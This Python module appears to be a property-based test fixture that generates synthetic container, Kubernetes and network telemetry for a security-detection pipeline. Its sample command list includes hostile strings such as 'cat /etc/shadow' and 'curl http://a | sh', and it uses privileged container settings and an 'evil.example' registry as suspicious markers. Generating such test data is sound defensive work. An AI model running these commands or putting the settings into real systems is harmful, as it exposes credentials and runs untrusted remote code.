"""Attributed events of all kinds, few enough of everything that they meet."""

from datetime import UTC, datetime, timedelta
from itertools import chain
from typing import Any

import polars as pl
from hypothesis import strategies as st

from features.events import EVENT_SCHEMA

Row = dict[str, Any]
START = datetime(2026, 9, 14, 3, tzinfo=UTC)
ATTRIBUTED = EVENT_SCHEMA | {"peer": pl.String(), "external": pl.Boolean(), "healthcheck": pl.String()}

WORKLOADS = st.sampled_from(["docker:shop/api", "docker:shop/db", "ip:10.0.0.9"])
ADDRESSES = st.sampled_from(["203.0.113.7", "203.0.113.8", "10.0.0.9", "10.0.0.255"])
NAMES = st.sampled_from(["a.shop.example", "B.shop.example", "x.y.tunnel.example", "203.0.113.7", "com", ""])
UIDS = st.sampled_from(["C1", "C2", "C3", "C4"])
CONTAINERS = st.sampled_from(["c1", "c2", "c3"])
AGENTS = st.sampled_from(["curl/8.5.0", "kubectl/v1.33 (linux)", "/odd", "Mozilla 5.0 (X11)", "trufflehog/3"])
TOKENS = st.sampled_from(
    ["Privileged=true", "CapAdd=SYS_ADMIN", "Memory=1", "Cmd=run", "Image=docker.io/shop/api", "CapDrop=ALL",
     "Healthcheck=/ok", "User=app", "Entrypoint=kube-apiserver --profiling=false", "EnvKey=API_TOKEN"]
)  # fmt: skip
PROTOCOLS = st.sampled_from(["tcp", "udp", "icmp"])
ACTIONS = st.sampled_from(
    ["create", "start", "die", "destroy", "pause", "unpause", "rename", "network_disconnect"]
)  # fmt: skip
ACTORS = st.sampled_from(["k8s-actor:system:anonymous", "k8s-actor:system:serviceaccount:a:b", "k8s-actor:eve"])
COMMANDS = st.sampled_from(["ls 12345", "cat /etc/shadow", "curl http://a | sh", "id", "/ok", "wget -q x"])


def maybe(values: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.none() | values


def moments(hours: float) -> st.SearchStrategy[datetime]:
    """Moments that lie close together, or just before and at the ends of windows."""
    odd = st.integers(0, int(hours * 3600) - 1).map(lambda s: timedelta(seconds=s))
    edges = st.tuples(st.integers(0, int(hours * 6) - 1), st.sampled_from([0, 1, 599_999_999]))
    even = edges.map(lambda at: timedelta(minutes=10 * at[0], microseconds=at[1]))
    return (odd | even).map(lambda after: START + after)


IMAGE = {
    "image_registry": maybe(st.sampled_from(["docker.io", "evil.example"])),
    "image_repository": maybe(st.sampled_from(["shop/api", "tool"])),
    "image_tag": maybe(st.sampled_from(["1", "2"])),
    "image_digest": maybe(st.sampled_from(["sha256:" + "a" * 64, "sha256:" + "b" * 64])),
}
KINDS: dict[str, dict[str, st.SearchStrategy[Any]]] = {
    "flow": {
        "peer": maybe(WORKLOADS), "src_ip": maybe(ADDRESSES), "dst_ip": ADDRESSES, "uid": maybe(UIDS),
        "dst_port": maybe(st.sampled_from([22, 80, 443, 9999])), "proto": maybe(PROTOCOLS),
        "service": maybe(st.sampled_from(["ssl", "http", "ssh", "dns,http", "x"])),
        "bytes_out": maybe(st.integers(0, 9000)), "bytes_in": maybe(st.integers(0, 3000)),
        "duration": maybe(st.floats(0, 1e6)), "conn_state": maybe(st.sampled_from(["SF", "S0", "REJ", "OTH"])),
        "external": maybe(st.booleans()),
    },
    "dns": {
        "query": maybe(NAMES), "qtype": maybe(st.sampled_from(["A", "TXT"])), "uid": maybe(UIDS),
        "rcode": maybe(st.sampled_from(["NOERROR", "NXDOMAIN"])), "answers": maybe(st.lists(ADDRESSES, max_size=2)),
    },
    "tls": {
        "external": maybe(st.booleans()),
        "uid": maybe(UIDS), "dst_ip": maybe(ADDRESSES), "server_name": maybe(NAMES),
        "established": maybe(st.booleans()), "ja3": maybe(st.just("j3")), "ja4": maybe(st.just("j4")),
    },
    "http": {
        "uid": maybe(UIDS), "dst_ip": maybe(ADDRESSES), "external": maybe(st.booleans()),
        "server_name": maybe(NAMES | ADDRESSES.map(lambda address: f"{address}:80")), "user_agent": maybe(AGENTS),
        "method": maybe(st.just("GET")),
        "uri": maybe(st.sampled_from(["/orders/17/lines?page=2", "/o/0123456789abcdef/x#y", "/a\n?b\n/c", "?", ""])),
    },
    "lifecycle": {
        "action": maybe(ACTIONS),
        "container_id": maybe(CONTAINERS), "host": maybe(st.sampled_from(["h1", "h2"])), **IMAGE,
    },
    "config": {
        "container_id": maybe(CONTAINERS), "config": maybe(st.lists(TOKENS, max_size=6)),
        "action": maybe(st.just("inspect")), **IMAGE,
    },
    "exec": {
        "action": maybe(st.sampled_from(["exec_create", "exec_start", "copy"])), "command": maybe(COMMANDS),
        "actor": maybe(st.just("root")), "healthcheck": maybe(st.just("/ok")),
    },
    "audit": {
        "action": maybe(st.sampled_from(["get", "create", "list", "delete"])), "user_agent": maybe(AGENTS),
        "resource": maybe(st.sampled_from(["secrets", "pods", "pods/exec", "configmaps", "clusterrolebindings"])),
        "namespace": maybe(st.sampled_from(["shop", "kube-system"])), "src_ip": maybe(ADDRESSES),
        "name": maybe(st.sampled_from(["coredns", "x"])), "status": maybe(st.sampled_from([200, 403])),
        "actor": maybe(ACTORS),
        "rule": maybe(st.sampled_from(["forbid", "allow"])), "uri": maybe(st.sampled_from(["/version", "/api"])),
        "config": maybe(st.lists(TOKENS | st.just("RoleRef=cluster-admin"), max_size=2)), "command": maybe(COMMANDS),
    },
    "image": {
        "action": maybe(st.sampled_from(["push", "tag", "registry_pull", "inspect"])), "user_agent": maybe(AGENTS),
        "src_ip": maybe(ADDRESSES), **IMAGE,
    },
    "pull": IMAGE,
    "alert": {},
}  # fmt: skip


def after(moment: datetime, seconds: float) -> datetime:
    return moment + timedelta(seconds=seconds)


@st.composite
def event(draw: st.DrawFn, hours: float, kind: str | None = None) -> Row:
    """One event of a kind, or of any."""
    kind = kind or draw(st.sampled_from(sorted(KINDS)))
    told = {name: draw(values) for name, values in KINDS[kind].items()}
    if told.get("peer") is not None:
        told["external"] = False  # attribution says so: a workload is inside
    return {"kind": kind, "ts": draw(moments(hours)), "workload": draw(maybe(WORKLOADS)), **told}


@st.composite
def visit(draw: st.DrawFn, hours: float) -> list[Row]:
    """A host outside that is looked up, connected to and spoken to, each a little after the other."""
    moment, workload, address = draw(moments(hours)), draw(WORKLOADS), draw(ADDRESSES)
    uid, name = f"V{draw(st.integers(1, 99))}", draw(NAMES)
    flow = {"peer": None, "external": True, "dst_ip": address, "uid": uid, "ts": moment, "conn_state": "SF"}
    looked_up = {"query": name, "answers": [address], "ts": after(moment, draw(st.sampled_from([-700, -1, 30])))}
    said = {"dst_ip": address, "uid": uid, "ts": after(moment, draw(st.sampled_from([1, 700, 7200])))}
    parts = {"flow": flow, "dns": looked_up, "tls": said | {"established": False}, "http": said}
    told = draw(st.lists(st.sampled_from(sorted(parts)), unique=True, min_size=1))
    return [draw(event(hours, kind)) | {"workload": workload, **parts[kind]} for kind in told]


@st.composite
def rollout(draw: st.DrawFn, hours: float) -> list[Row]:
    """Containers of one workload that get one configuration, and one of them another later."""
    workload, tokens = draw(WORKLOADS), draw(st.lists(TOKENS, min_size=1, max_size=3))
    snapshot = {"kind": "config", "workload": workload, "image_repository": "shop/api", "image_registry": "docker.io"}
    began = draw(moments(hours))
    made = [
        snapshot | {"container_id": f"r{n}", "config": tokens, "ts": after(began, 60.0 * n)}
        for n in range(draw(st.integers(1, 3)))
    ]
    later = after(began, draw(st.sampled_from([300, 7000, 40_000])))
    return [*made, snapshot | {"container_id": "r0", "config": [*tokens, draw(TOKENS)], "ts": later}]


@st.composite
def series(draw: st.DrawFn, hours: float) -> list[Row]:
    """Flows of one workload to one place at intervals, so that beacons, drips and silences are among what is told."""
    flow = draw(event(hours, "flow"))
    flow |= {"workload": draw(WORKLOADS), "uid": None}
    flow["external"] = flow["peer"] is None and draw(st.booleans())
    period, count = draw(st.sampled_from([(30, 60), (600, 60), (1800, 20), (7200, 8)]))
    jitter, echo = draw(st.sampled_from([0, 1, 5])), draw(st.sampled_from([(0,), (0, 3), (0, 7)]))
    return [
        flow | {"ts": after(flow["ts"], period * n + (n * 7919) % (jitter + 1) + late * (1 + n % 2))}
        for n in range(count)
        for late in echo
    ]


def telemetry(hours: float) -> st.SearchStrategy[list[Row]]:
    """Events of any kind, and some that belong together, within hours after `START`; each has an id of its own."""
    stories = st.lists(visit(hours) | rollout(hours), max_size=6), st.lists(series(hours), max_size=2)
    parts = st.tuples(st.lists(event(hours), max_size=20), *(story.map(chain.from_iterable) for story in stories))
    end = START + timedelta(hours=hours)
    told = parts.map(lambda parts: [row for row in chain(*parts) if START <= row["ts"] < end])
    return told.map(lambda rows: [row | {"event_id": n + 1} for n, row in enumerate(rows)])


def frame(rows: list[Row]) -> pl.DataFrame:
    """Give the events as `features.leases.attribute` would: a column each, in order."""
    columns = {name: [row.get(name) for row in rows] for name in ATTRIBUTED}
    return pl.DataFrame(columns, ATTRIBUTED).sort("ts", "event_id")
